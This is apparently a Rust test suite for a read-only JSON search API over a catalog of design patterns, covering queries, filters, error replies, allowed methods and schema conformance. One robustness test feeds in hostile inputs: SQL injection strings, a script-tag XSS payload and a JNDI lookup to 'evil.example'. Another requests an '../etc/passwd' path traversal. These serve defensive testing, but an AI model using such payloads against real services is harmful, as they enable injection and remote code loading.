//! `/api/v1/`: answers for programs.

use axum::http::Method;
use expect_test::{Expect, expect};
use layra_catalog::Category;
use layra_catalog::section::Section;
use layra_search::{Answer, Index, Query};
use serde_json::Value;

use crate::fixture::{Reply, ask, get, get_with, harbour, site};

/// What answers `query` at the search.
fn search(query: &str) -> Reply {
    let reply = get(&format!("/api/v1/search?{query}"));
    assert_eq!((reply.status.as_u16(), reply.header("content-type")), (200, "application/json"), "{query}");
    reply
}

/// The patterns that `query` gives, in order.
fn slugs(query: &str) -> Vec<String> {
    let answer: Answer = serde_json::from_slice(&search(query).body).expect("is an answer");
    answer.results.into_iter().map(|hit| hit.slug.to_string()).collect()
}

fn check_fault(target: &str, expected: Expect) {
    let reply = get(target);
    assert_eq!(reply.header("content-type"), "application/problem+json", "{target}");
    assert_eq!(reply.header("cache-control"), "no-store", "{target}");
    let problem: Value = serde_json::from_slice(&reply.body).expect("is JSON");
    assert_eq!(problem["status"], reply.status.as_u16(), "{target}");
    expected.assert_eq(reply.text());
}

/// The status and the detail of the fault at `target`.
fn fault(target: &str) -> String {
    let reply = get(target);
    assert_eq!(reply.header("content-type"), "application/problem+json", "{target}");
    let problem: Value = serde_json::from_slice(&reply.body).expect("is JSON");
    format!("{} {}", problem["status"], problem["detail"].as_str().expect("is text"))
}

#[test]
fn a_search_answers_what_the_library_answers() {
    let catalog = harbour();
    let index = Index::build(&catalog);
    for (query, asked) in [
        ("q=fish+spoils", Query { text: "fish spoils", limit: 10, category: None, section: None }),
        ("q=zeppelin", Query { text: "zeppelin", limit: 10, category: None, section: None }),
        (
            "q=%20the+boat%20&limit=1&category=integration&section=components",
            Query {
                text: "the boat",
                limit: 1,
                category: Some(Category::Integration),
                section: Some(Section::Components),
            },
        ),
    ] {
        let expected = serde_json::to_string_pretty(&index.search(&catalog, &asked)).expect("an answer is JSON");
        assert_eq!(search(query).text(), format!("{expected}\n"), "{query}");
    }
}

#[test]
fn a_hit_carries_its_reasons() {
    let answer: Value = serde_json::from_slice(&search("q=fish+spoils").body).expect("is JSON");
    let hit = &answer["results"][0];
    assert_eq!((&hit["slug"], &hit["name"]), (&"letter-box".into(), &"Letter Box".into()));
    let reason = hit["reasons"][0].to_string();
    expect![[r#"{"place":"avoid-when","cite":"letter-box#perishable","words":["fish","spoils"],"text":"Fish spoils in a box."}"#]]
        .assert_eq(&reason);
}

#[test]
fn a_search_is_narrowed_by_limit_category_and_section() {
    assert_eq!(slugs("q=boat+ship+crossing+cloth&limit=1").len(), 1);
    assert_eq!(slugs("q=ship+that+crosses&category=integration").iter().find(|slug| *slug == "night-ferry"), None);
    assert_eq!(slugs("q=fish+spoils&section=avoid-when"), ["letter-box"]);
    for other_way in ["avoid", "When+NOT+to+Use", "AVOID_WHEN"] {
        let query = format!("q=fish+spoils&section={other_way}");
        assert_eq!(search(&query).body, search("q=fish+spoils&section=avoid-when").body, "{query}");
    }
    assert_eq!(search("q=box&category=Integration").body, search("q=box&category=integration").body);
}

#[test]
fn blank_and_unknown_parameters_change_nothing() {
    let plain = search("q=box");
    for query in ["q=box&limit=&category=&section=+", "q=box&colour=red&v=2", "&&q=box&=&", "q=&q=box"] {
        assert_eq!(search(query).body, plain.body, "{query}");
    }
}

#[test]
fn a_search_without_words_is_refused() {
    check_fault(
        "/api/v1/search",
        expect![[r#"
            {
              "type": "about:blank",
              "title": "Bad Request",
              "status": 400,
              "detail": "Nothing is asked: `q` is missing or blank. Ask as in `/api/v1/search?q=words`."
            }
        "#]],
    );
    for query in ["", "q", "q=", "q=+%20%09", "q=%E3%80%80", "Q=box", "limit=3"] {
        assert!(fault(&format!("/api/v1/search?{query}")).starts_with("400 Nothing is asked"), "{query}");
    }
}

#[test]
fn an_overlong_search_is_refused() {
    let search = |text: &str| format!("/api/v1/search?q={text}");
    assert_eq!(get(&search(&"a".repeat(2000))).status, 200);
    for text in ["a".repeat(2001), "a".repeat(3000), "a+".repeat(1001) + "a"] {
        assert_eq!(fault(&search(&text)), "400 A search may be 2000 characters long. Ask with fewer words.");
    }
    // Characters, not bytes; an address of more bytes than are read is refused before.
    assert_eq!(get(&search(&"%C3%A9".repeat(1300))).status, 200);
    let fault = fault(&search(&"%C3%A9".repeat(2000)));
    assert_eq!(fault, "414 An address may be 8192 bytes long. Ask with fewer words.");
}

#[test]
fn a_limit_out_of_bounds_is_refused() {
    for limit in ["1", "50", "+3+", "007"] {
        assert_eq!(get(&format!("/api/v1/search?q=box&limit={limit}")).status, 200, "{limit}");
    }
    for limit in ["0", "51", "-1", "1.5", "ten", "1e1", "99999999999999999999999", "%00", "1+2", "٣"] {
        let fault = fault(&format!("/api/v1/search?q=box&limit={}", limit.replace('٣', "%D9%A3")));
        assert!(fault.starts_with("400 `limit` is"), "{fault}");
    }
    let fault = fault("/api/v1/search?q=box&limit=51");
    assert_eq!(fault, "400 `limit` is `51`, but goes from 1 to 50. Leave it out for 10.");
}

#[test]
fn an_unknown_category_or_section_is_answered_with_the_nearest() {
    check_fault(
        "/api/v1/search?q=box&category=sistem",
        expect![[r#"
            {
              "type": "about:blank",
              "title": "Bad Request",
              "status": 400,
              "detail": "There is no category `sistem`. Did you mean `system`?"
            }
        "#]],
    );
    let fault = |name: &str| fault(&format!("/api/v1/search?q=box&{name}"));
    assert_eq!(fault("section=tradeof"), "400 There is no section `tradeof`. Did you mean `trade-offs`?");
    expect!["400 There is no category `fish`. It is one of system, application, data, integration, ai."]
        .assert_eq(&fault("category=fish"));
    assert!(fault("section=%00").contains("It is one of use-when, avoid-when"));
    let long = fault(&format!("category={}", "a".repeat(5000)));
    assert!(long.len() < 300, "{long}");
}

#[test]
fn what_is_not_there_is_said_in_json() {
    check_fault(
        "/api/v1/serach?q=box",
        expect![[r#"
            {
              "type": "about:blank",
              "title": "Not Found",
              "status": 404,
              "detail": "There is nothing at `/api/v1/serach`. `/api/docs` lists what there is; the search is at `/api/v1/search?q=words`."
            }
        "#]],
    );
    for target in [
        "/api",
        "/api/",
        "/api/v1",
        "/api/v1/",
        "/api/v1/search/",
        "/api/v2/search?q=box",
        "/api/letter-box",
        "/api/%00%FF",
        "/api/../etc/passwd",
        "/api/%3Cscript%3E",
    ] {
        assert!(fault(target).starts_with("404 There is nothing at"), "{target}");
    }
    assert!(get("/apiary").header("content-type").starts_with("text/html"));
}

#[test]
fn only_reading_is_allowed_and_that_is_said_in_json() {
    let site = site(harbour());
    for method in [Method::POST, Method::PUT, Method::DELETE, Method::PATCH, Method::OPTIONS, Method::TRACE] {
        for target in ["/api/v1/search?q=box", "/api/v1/search", "/api/nothing"] {
            let reply = ask(&site, method.clone(), target, &[]);
            assert_eq!((reply.status.as_u16(), reply.header("allow")), (405, "GET, HEAD"), "{method} {target}");
            assert_eq!(reply.header("content-type"), "application/problem+json", "{method} {target}");
        }
    }
    expect![[r#"
        {
          "type": "about:blank",
          "title": "Method Not Allowed",
          "status": 405,
          "detail": "Nothing here answers POST. Ask with GET or HEAD."
        }
    "#]]
    .assert_eq(ask(&site, Method::POST, "/api/v1/search?q=box", &[]).text());
}

#[test]
fn faults_are_json_whatever_the_client_takes() {
    for accept in ["text/html", "text/plain", "image/png", "text/markdown"] {
        for target in ["/api/v1/search", "/api/nothing"] {
            let reply = get_with(target, &[("accept", accept)]);
            assert_eq!(reply.header("content-type"), "application/problem+json", "{accept}");
            assert_eq!(reply.header("vary"), "accept-encoding");
        }
        let reply = get_with("/api/v1/search?q=box", &[("accept", accept)]);
        assert_eq!(reply.header("content-type"), "application/json", "{accept}");
    }
    let reply = get(&format!("/api/{}", "a".repeat(9000)));
    assert_eq!((reply.status.as_u16(), reply.header("content-type")), (414, "application/problem+json"));
}

#[test]
fn any_question_is_answered() {
    let site = site(harbour());
    for text in [
        "%FF%FE%00%01",
        "%",
        "%zz",
        "%00",
        "%E2%80%AE%D9%85%D8%B1%D8%AD%D8%A8%D8%A7",
        "%F0%9F%93%AE%F0%9F%91%A8%E2%80%8D%F0%9F%91%A9%E2%80%8D%F0%9F%91%A7",
        "the+of+and+is+it",
        "'%3B+DROP+TABLE+patterns%3B--",
        "1'+OR+'1'%3D'1",
        "(a%2B)%2B%24",
        "%5C%5B(*%7B%3F",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "$%7Bjndi:ldap://evil.example/a%7D",
        "Fisch+verdirbt+in+einer+Kiste",
        "%E7%AE%B1%E3%81%AB%E9%AD%9A%E3%82%92%E5%85%A5%E3%82%8C%E3%82%8B",
        "%D0%BF%D0%BE%D1%87%D1%82%D0%BE%D0%B2%D1%8B%D0%B9+%D1%8F%D1%89%D0%B8%D0%BA",
        "e%CC%81%CC%81%CC%81%CC%81%CC%81",
        &"a+".repeat(1000),
        &"(a%2B)%2B".repeat(250),
        &"fish+".repeat(400),
    ] {
        let reply = ask(&site, Method::GET, &format!("/api/v1/search?q={text}"), &[]);
        assert_eq!((reply.status.as_u16(), reply.header("content-type")), (200, "application/json"), "{text}");
        let answer: Answer = serde_json::from_slice(&reply.body).expect("is an answer");
        assert!(answer.results.iter().all(|hit| !hit.reasons.is_empty()), "{text}");
    }
}

#[test]
fn every_address_answers_what_its_description_says() {
    let document: Value = serde_json::from_slice(&get("/api/openapi.json").body).expect("is JSON");
    assert_eq!(document["openapi"], "3.1.1");
    let paths = document["paths"].as_object().expect("an object");
    let targets = [
        ("/api/v1/patterns", "/api/v1/patterns"),
        ("/api/v1/patterns", "/api/v1/patterns?category=integration&max_complexity=5&team=3"),
        ("/api/v1/patterns/{slug}", "/api/v1/patterns/letter-box"),
        ("/api/v1/patterns/{slug}", "/api/v1/patterns/Night%20Ferry"),
        ("/api/v1/search", "/api/v1/search?q=fish+spoils"),
        ("/api/v1/compare", "/api/v1/compare?with=letter-box&with=night-ferry"),
        ("/api/v1/advise", "/api/v1/advise?fact=not+foggy&fact=crates%3D3..8&text=fish&from=letter-box"),
        ("/api/v1/facts", "/api/v1/facts"),
        ("/api/v1/export", "/api/v1/export"),
    ];
    for path in paths.keys() {
        assert!(targets.iter().any(|(tried, _)| tried == path), "{path} is not tried");
    }
    for (path, target) in targets {
        let reply = get(target);
        assert_eq!((reply.status.as_u16(), reply.header("content-type")), (200, "application/json"), "{target}");
        let mut schema = paths[path]["get"]["responses"]["200"]["content"]["application/json"]["schema"].clone();
        schema["components"] = document["components"].clone();
        let validator = jsonschema::validator_for(&schema).expect("a schema");
        let answer: Value = serde_json::from_slice(&reply.body).expect("is JSON");
        if let Err(error) = validator.validate(&answer) {
            panic!("{target}: {error}");
        }
        let tag = reply.header("etag").to_owned();
        assert_eq!(get_with(target, &[("if-none-match", &tag)]).status, 304, "{target}");
        assert_eq!(reply.header("access-control-allow-origin"), "", "{target}");
    }
}

#[test]
fn filters_and_names_that_are_not_there_are_refused() {
    for (target, expected) in [
        ("patterns?category=date", "400 There is no category `date`. Did you mean `data`?"),
        ("patterns?max_complexity=6", "400 `max_complexity` is `6`, but goes from 1 to 5."),
        ("patterns?team=0", "400 `team` is `0`, but goes from 1 to 4294967295."),
        ("patterns?concern=nothing", "404 There is no concern `nothing`."),
        ("patterns/leter-box", "404 There is no pattern `leter-box`. Near it: `letter-box`."),
    ] {
        assert_eq!(fault(&format!("/api/v1/{target}")), expected);
    }
    for target in ["compare", "compare?with=letter-box", "compare?with=letter-box&with=Letter+Box"] {
        assert!(fault(&format!("/api/v1/{target}")).starts_with("400 Name 2 to 4 different patterns."), "{target}");
    }
}

#[test]
fn the_page_about_the_api_names_every_address() {
    let document: Value = serde_json::from_slice(&get("/api/openapi.json").body).expect("is JSON");
    let page = get("/api/docs");
    assert!(page.header("content-type").starts_with("text/html") && page.runs_nothing_foreign());
    for path in document["paths"].as_object().expect("an object").keys() {
        assert!(page.text().contains(&format!("<code>{path}</code>")), "{path}");
    }
    // What may be sent in a body stands there, too.
    let posts = &document["paths"]["/api/v1/advise"]["post"]["requestBody"];
    assert_eq!(posts["required"], true);
    for field in ["facts", "text", "from", "skip", "assume"] {
        assert!(page.text().contains(&format!("<dt><code>{field}</code></dt>")), "{field}");
    }
    assert!(page.text().contains("Patterns in place today, by slug or name."));
}
